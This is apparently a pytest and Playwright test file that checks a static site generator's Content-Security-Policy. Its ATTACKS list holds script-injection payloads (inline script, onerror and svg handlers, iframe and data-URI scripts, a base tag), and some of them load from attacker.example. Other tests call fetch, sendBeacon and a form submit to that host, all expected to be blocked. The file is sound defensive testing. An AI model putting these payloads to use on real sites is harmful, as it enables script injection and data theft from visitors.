"""The content security policy: every page keeps to its own, nothing that is put into a page runs, the preview works."""

import re
import shutil
from base64 import b64encode
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from generator.preview.showing import State
from tests.browser.chromium import Witness
from tests.browser.links import from_server
from tests.browser.test_links import opened
from tests.built_site import BuiltSite, build, copied
from tests.preview.desk import desk_with, document, files, is_marked, mark, overlay

PLACES = ("file", "/some/repo/")
NOTE_VIOLATIONS = """
  window.violations = [];
  document.addEventListener('securitypolicyviolation', event =>
    window.violations.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`));
"""
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
LOADING = re.compile(r"<(?:link|script|img|style|base|iframe|source|video|audio|object|embed)\b")
INLINE = re.compile(
    r"<style\b|\sstyle=|\son[a-z]+=\"|<script\b(?![^>]*(?:\b(?:data-)?src=|type=\"application/(?:ld\+)?json\"))"
)
ATTACKS = {
    "script": "<script>window.ran = 'script'</script>",
    "script of another host": "<script src='https://attacker.example/x.js'></script>",
    "script as data": "<script src='data:text/javascript,window.ran=1'></script>",
    "handler": "<img src='data:,' alt='' onerror=\"window.ran = 'handler'\">",
    "svg": "<svg onload=\"window.ran = 'svg'\"><script>window.ran = 'svg script'</script></svg>",
    "frame": "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "frame of data": "<iframe src='data:text/html,<script>parent.postMessage(1)</script>'></iframe>",
    "object": "<object data='data:text/html,<script>parent.ran = 1</script>'></object>",
    "image of another host": "<img alt='' src='https://attacker.example/pixel.png'>",
    "styles": "<style>h1 { background: url(https://attacker.example/read) }</style>",
    "preload": "<link rel='stylesheet' href='https://attacker.example/x.css'>",
    "base": "<base href='https://attacker.example/'>",
}


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page that keeps what its policy forbade it."""
    with browser.new_context() as context:
        context.add_init_script(NOTE_VIOLATIONS)
        yield context.new_page()


def policy_of(html: str) -> str:
    found = POLICY.findall(html)
    assert len(found) == 1
    return str(found[0])


def directives(policy: str) -> dict[str, str]:
    return {name: values for name, _, values in (part.strip().partition(" ") for part in policy.split(";"))}


@pytest.mark.parametrize("site", ["starter", "rich"])
def test_every_page_has_a_strict_policy_before_anything_that_loads(site: str, request: pytest.FixtureRequest) -> None:
    for path, html in pages_of(request.getfixturevalue(site)):
        policy = directives(policy_of(html))
        late = re.search(r'<script data-src="[^"]*">(.*?)</script>', html, re.DOTALL)
        hashed = f" 'sha256-{b64encode(sha256(late[1].encode()).digest()).decode()}'" if late else ""
        has_scripts = late is not None or "<script src=" in html
        assert policy["default-src"] == "'none'", path
        assert policy["script-src"] == (f"'self'{hashed}" if has_scripts else "'none'"), path
        assert policy["connect-src"] == ("'none'" if path == "match/index.html" else "'self'"), path
        assert policy["form-action"] == policy["base-uri"] == "'none'", path
        assert ("require-trusted-types-for" in policy) == has_scripts, path
        assert "unsafe" not in str(policy), path
        assert html.index("Content-Security-Policy") < LOADING.search(html).start(), path  # type: ignore[union-attr]
        assert len(html[: html.index("<meta charset")].encode()) < 1024, path
        assert '<meta name="referrer" content="strict-origin-when-cross-origin">' in html, path


@pytest.mark.parametrize("site", ["starter", "rich"])
def test_no_page_has_a_style_a_script_or_a_handler_inline(site: str, request: pytest.FixtureRequest) -> None:
    for path, html in pages_of(request.getfixturevalue(site)):
        tags = "".join(re.findall(r"<[a-z][^>]*>", html))
        assert not INLINE.findall(tags), path


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("site", ["starter", "rich"])
def test_every_kind_of_page_keeps_to_its_policy(
    site: str, place: str, page: Page, request: pytest.FixtureRequest
) -> None:
    built: BuiltSite = request.getfixturevalue(site)
    notes: list[str] = []
    with opened(built, place) as (base, _):
        witness = Witness(page, base)
        for path in [*built.kinds().values(), *with_scripts(built)]:
            if path == "404.html" and place == "file":
                continue  # it stands for addresses of a server
            page.goto(base + path)
            page.mouse.wheel(0, 50_000)
            notes += [f"{path}: {note}" for note in [*page.evaluate("window.violations"), *witness.notes]]
            witness.notes.clear()
    assert not notes, "\n".join(notes)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_put_into_a_page_is_not_run_or_loaded(
    starter: BuiltSite, page: Page, tmp_path: Path, attack: str, place: str
) -> None:
    attacked = BuiltSite(shutil.copytree(starter.folder, tmp_path / "site"), None)
    home = attacked.folder / "index.html"
    html = home.read_text(encoding="utf-8")
    home.write_text(html.replace("<main", f"{ATTACKS[attack]}<main", 1), encoding="utf-8")
    asked: list[str] = []
    with opened(attacked, place) as (base, _):
        page.on("requestfinished", lambda request: asked.append(request.url))
        page.goto(base + "index.html")
        page.wait_for_load_state("load")
        assert [frame.evaluate("window.ran ?? null") for frame in page.frames] == [None] * len(page.frames)
        assert any(frame.evaluate("window.violations ?? []") for frame in page.frames)
        assert page.evaluate("document.baseURI").startswith(base)
        assert [address for address in asked if not address.startswith((base, "data:"))] == []


@pytest.mark.parametrize("path", ["", "match/index.html"])
def test_a_page_may_not_speak_to_another_host(starter: BuiltSite, page: Page, path: str) -> None:
    with opened(starter, "/some/repo/") as (base, _):
        page.goto(base + path)
        own = page.evaluate("fetch(document.baseURI).then(() => 'answered', () => 'refused')")
        assert own == ("refused" if path else "answered")
        for request in ("fetch('https://attacker.example/')", "navigator.sendBeacon('https://attacker.example/', 'x')"):
            page.evaluate(f"(async () => {request})().catch(() => {{}})")
        asked = [one for one in page.evaluate("window.violations") if one.startswith("connect-src: https://attacker")]
        assert len(asked) == 2
        page.evaluate("""() => {
          const form = Object.assign(document.createElement('form'), {action: 'https://attacker.example/', id: 'f'});
          document.body.append(form);
          form.submit();
        }""")
        page.wait_for_function("() => window.violations.some(one => one.startsWith('form-action'))")
        assert page.url == base + path


def test_an_author_who_is_trusted_may_embed_what_is_safe_to_load(tmp_path: Path, page: Page) -> None:
    site = copied("starter", tmp_path)
    settings = site / "content" / "site.yaml"
    kept = [line for line in settings.read_text(encoding="utf-8").splitlines() if not line.startswith("html:")]
    settings.write_text("\n".join([*kept, "html: trusted\n"]), encoding="utf-8")
    embedded = "<script>window.ran = 1</script>\n<iframe title='x' src='data:text/html,there'></iframe>\n"
    (site / "content" / "pages").mkdir(exist_ok=True)
    (site / "content" / "pages" / "with.md").write_text(f"---\ntitle: With\n---\n\n{embedded}", encoding="utf-8")
    built = build(site)
    for place in PLACES:
        with opened(built, place) as (base, _):
            page.goto(f"{base}with/index.html")
            assert page.evaluate("window.ran") == 1
            assert page.evaluate("window.violations") == []
            assert page.frames[1].locator("body").text_content() == "there"
    match = directives(policy_of((built.folder / "match" / "index.html").read_text(encoding="utf-8")))
    assert (match["default-src"], match["connect-src"]) == ("'none'", "'none'"), "the page for pasted texts is open"
    policy = directives(policy_of((built.folder / "with" / "index.html").read_text(encoding="utf-8")))
    assert (policy["object-src"], policy["base-uri"]) == ("'none'", "'none'")
    assert "http:" not in str(policy)
    assert "'unsafe-eval'" not in str(policy)


@pytest.mark.parametrize("scripts", ["'none'", "'self'; require-trusted-types-for 'script'; trusted-types 'none'"])
def test_a_page_with_a_policy_follows_the_sources_in_the_preview(
    starter: BuiltSite, browser: Browser, scripts: str
) -> None:
    policy = policy_of((starter.folder / "404.html").read_text(encoding="utf-8"))
    policy = policy.replace("script-src 'none'", f"script-src {scripts}")
    meta = f'<meta http-equiv="Content-Security-Policy" content="{policy}">'

    def site(text: str) -> dict[str, bytes]:
        head = f"{meta}<link rel='stylesheet' href='/site-1.css'>"
        return files({}) | {"index.html": document(f"<h1>Ada</h1><p id='text'>{text}</p>", head)}

    with desk_with(browser, State(build="1", files=site("first"), media="m", is_current=True)) as desk:
        assert b"Content-Security-Policy" in (from_server(f"{desk.server.address}/") or b"")
        tab = desk.tab()
        mark(tab)
        desk.show.change(files=site("second"))
        expect(tab.locator("#text")).to_have_text("second")
        assert is_marked(tab)
        expect(overlay(tab)).to_be_attached()
        desk.expected = "Executing inline script violates"
        assert runs_inline_script(tab) is None


def runs_inline_script(page: Page) -> Any:
    """What an inline script in the page leaves, which its policy forbids in the preview as well."""
    script = "const one = document.createElement('script'); one.text = 'window.ran = 1'; document.body.append(one);"
    return page.evaluate(f"() => {{ {script} return window.ran ?? null }}")


@pytest.mark.parametrize("email", [True, False])
def test_an_address_is_shown_where_the_author_gives_one_and_nowhere_else(tmp_path: Path, email: bool) -> None:
    site = copied("starter", tmp_path)
    profile = site / "content" / "profile.yaml"
    kept = [line for line in profile.read_text(encoding="utf-8").splitlines() if not line.startswith("email:")]
    profile.write_text("\n".join([*kept, *(["email: ada@example.org"] if email else []), ""]), encoding="utf-8")
    built = build(site)
    texts = [file.read_text(encoding="utf-8") for file in built.folder.rglob("*") if file.suffix in (".html", ".xml")]
    assert any("ada@example.org" in text for text in texts) is email
    assert any("mailto:" in text for text in texts) is email


def pages_of(site: BuiltSite) -> list[tuple[str, str]]:
    """Every page and its HTML."""
    return [(path, (site.folder / path).read_text(encoding="utf-8")) for path in site.pages()]


def with_scripts(site: BuiltSite) -> list[str]:
    """The pages that have scripts."""
    return [path for path, html in pages_of(site) if "<script src=" in html or "<script data-src=" in html]
